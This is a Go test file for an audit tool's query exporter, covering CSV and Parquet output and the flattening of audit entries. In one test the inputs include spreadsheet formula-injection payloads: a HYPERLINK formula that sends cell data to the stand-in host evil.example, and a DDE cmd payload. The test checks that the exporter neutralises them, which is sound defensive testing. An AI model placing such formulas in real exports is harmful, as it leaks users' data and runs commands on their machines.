package query_test

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"

	"github.com/posternhq/postern/auditor/query"
	"github.com/posternhq/postern/deploy/embedded/embeddedtest"
)

var exported = &query.Table{
	Columns: []query.Column{{"z", "UInt64"}, {"a", "Int32"}, {"f", "Nullable(Float64)"}, {"b", "Bool"}, {"t", "DateTime64(6, 'UTC')"},
		{"s", "LowCardinality(Nullable(String))"}, {"l", "Array(String)"}, {"count(x, y)", "UInt8"}, {"z", "String"}},
	Rows: [][]any{
		{json.Number("18446744073709551615"), json.Number("-1"), "NaN", true, "2026-03-01T12:00:00.000001Z", "x,\"y\"\nz", []any{"a", "b"}, json.Number("1"), "="},
		{uint64(7), int32(2), nil, false, time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC), nil, []string{}, uint8(2), ""},
	},
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	if err := exported.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	want := "z,a,f,b,t,s,l,\"count(x, y)\",z\r\n" +
		"18446744073709551615,-1,NaN,true,2026-03-01T12:00:00.000001Z,\"x,\"\"y\"\"\r\nz\",\"[\"\"a\"\",\"\"b\"\"]\",1,=\r\n" +
		"7,2,,false,2026-03-01T00:00:00Z,,[],2,\r\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

// What a spreadsheet would run is text to it, and numbers stay numbers.
func TestCSVRunsNothing(t *testing.T) {
	table := &query.Table{Columns: []query.Column{{"s", "String"}}}
	for _, s := range []string{`=HYPERLINK("https://evil.example/?"&A1)`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "-7", "+1.5e3", "-", "=", "a=b", "'=x"} {
		table.Rows = append(table.Rows, []any{s})
	}
	var b bytes.Buffer
	if err := table.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	want := "s\r\n\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\"\r\n'+cmd|' /C calc'!A0\r\n'-2+3\r\n'@SUM(1)\r\n'\t=1\r\n-7\r\n+1.5e3\r\n-\r\n=\r\na=b\r\n'=x\r\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

// What is written is read back by the library, and by pyarrow where it is installed.
func TestParquet(t *testing.T) {
	var b bytes.Buffer
	if err := exported.WriteParquet(&b); err != nil {
		t.Fatal(err)
	}
	f, err := parquet.OpenFile(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, c := range f.Schema().Fields() {
		names = append(names, c.Name())
	}
	if diff := cmp.Diff([]string{"z", "a", "f", "b", "t", "s", "l", "count(x, y)", "z_2"}, names); diff != "" {
		t.Error(diff)
	}
	rows := parquet.NewReader(f)
	read := make([]parquet.Row, 2)
	if n, _ := rows.ReadRows(read); n != 2 || read[0][0].Uint64() != 1<<64-1 || read[0][4].Int64() != 1772366400000001 || !read[1][2].IsNull() || read[0][6].String() != `["a","b"]` {
		t.Errorf("%d rows: %v", n, read)
	}
	// ClickHouse's own reader agrees.
	var z uint64
	var at time.Time
	conn := embeddedtest.Open(t, embeddedtest.ClickHouse(t))
	if err := conn.QueryRow(t.Context(), "SELECT z, t FROM format(Parquet, unhex('"+hex.EncodeToString(b.Bytes())+"')) WHERE a = -1").Scan(&z, &at); err != nil {
		t.Fatal(err)
	}
	if z != 1<<64-1 || at.UnixMicro() != 1772366400000001 {
		t.Errorf("ClickHouse reads %d, %s", z, at)
	}
}

// A row for each call, both sides in it.
func TestFlat(t *testing.T) {
	at := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	table := query.Flat([]query.Entry{{Time: at, Verdict: "bypass", CloudTrail: &query.Record{EventID: "E", ReadOnly: true}}, {Time: at, Request: &query.Request{RequestID: "R", Status: 200, Resources: []string{"a"}}}})
	at0 := map[string]any{}
	for i, c := range table.Columns {
		at0[c.Name+" "+c.Type] = []any{table.Rows[0][i], table.Rows[1][i]}
	}
	for column, want := range map[string][]any{
		"time DateTime64(6, 'UTC')": {at, at}, "verdict String": {"bypass", ""}, "cloudtrail_event_id String": {"E", nil},
		"cloudtrail_read_only Bool": {true, nil}, "request_status UInt64": {nil, uint16(200)}, "request_resources Array(String)": {nil, []string{"a"}},
		"cloudtrail_resources Array(String)": {[]string{}, nil}, "request_also Array(String)": {nil, []string{}},
	} {
		if diff := cmp.Diff(want, at0[column]); diff != "" {
			t.Errorf("%s (-want +got):\n%s", column, diff)
		}
	}
	var b bytes.Buffer
	if err := table.WriteParquet(&b); err != nil {
		t.Error(err)
	}
}
